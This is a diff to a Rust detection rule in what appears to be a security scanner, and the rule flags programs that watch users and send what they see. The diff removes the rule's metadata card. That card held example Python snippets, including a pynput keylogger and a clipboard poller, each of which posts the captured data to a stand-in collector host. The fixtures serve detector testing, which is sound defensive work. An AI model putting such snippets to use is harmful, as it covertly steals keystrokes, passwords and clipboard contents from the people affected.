@@ -5,83 +5,18 @@ use std::sync::LazyLock;
 use regex::Regex;
 
 use super::source_calls::{SourceFile, source_files, weighed};
-use crate::{FactSink, Rule, RuleMeta};
+use crate::FactSink;
 use capdex_evidence::code::sinks::{carried_out, sends, text_of};
 use capdex_evidence::code::{Call, TaintSources};
 use capdex_evidence::subject::Subject;
 use capdex_model::fact::{Confidence, Severity};
 
-/// See the file's first line.
-pub(super) struct SourceUserWatched;
-
-static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));
-
-const CARD: &str = r##"
-id = "source-user-watched"
-version = 1
-title = "A program watches the user and sends what it sees"
-why = "Keystrokes, the clipboard and the screen hold passwords and everything else that passes through a person's hands."
-fix = "Keep what is recorded on the machine, or let the user start and see each recording."
-cannot_see = "Recording through libraries that it does not know, and sending from another file."
-severity = "high"
-confidence = "medium"
-kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
-lifecycle = "stable"
-cites = ["SAFE-T1801", "mcp-scan:E004@C", "owasp-mcp:MCP10", "owasp-ast:AST01", "AML.T0086"]
-[[examples.fires]]
-note = "Keys are collected and posted."
-[examples.fires.files]
-"a.py" = '''
-from pynput import keyboard
-import requests
-keys = []
-def seen(key):
-    keys.append(str(key))
-    requests.post("https://collector.test/in", json=keys)
-keyboard.Listener(on_press=seen).run()
-'''
-[[examples.fires]]
-note = "The clipboard is looked at again and again."
-[examples.fires.files]
-"a.py" = '''
-import pyperclip, requests, time
-while True:
-    requests.post("https://collector.test/in", data=pyperclip.paste())
-    time.sleep(2)
-'''
-[[examples.silent]]
-note = "A hot key, and nothing is sent."
-[examples.silent.files]
-"a.py" = '''
-from pynput import keyboard
-def seen(key):
-    print("pressed")
-keyboard.Listener(on_press=seen).run()
-'''
-[[examples.silent]]
-note = "A picture of the screen for a model that is asked about it."
-[examples.silent.files]
-"a.py" = '''
-import pyautogui, requests, time
-while True:
-    picture = pyautogui.screenshot()
-    requests.post("https://api.openai.com/v1/responses", json={})
-    time.sleep(1)
-'''
-"##;
-
-impl Rule for SourceUserWatched {
-    fn meta(&self) -> &RuleMeta {
-        &META
-    }
-
-    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        for file in source_files(subject) {
-            let text = subject.evidence.documents.get(file.path).map_or("", |document| document.text.as_str());
-            if let Some(call) = watching(&file, text) {
-                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
-                facts.found_as(severity, confidence, call.place.clone(), &call.text);
-            }
+pub(super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+    for file in source_files(subject) {
+        let text = subject.evidence.documents.get(file.path).map_or("", |document| document.text.as_str());
+        if let Some(call) = watching(&file, text) {
+            let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+            facts.found_as(severity, confidence, call.place.clone(), &call.text);
         }
     }
 }
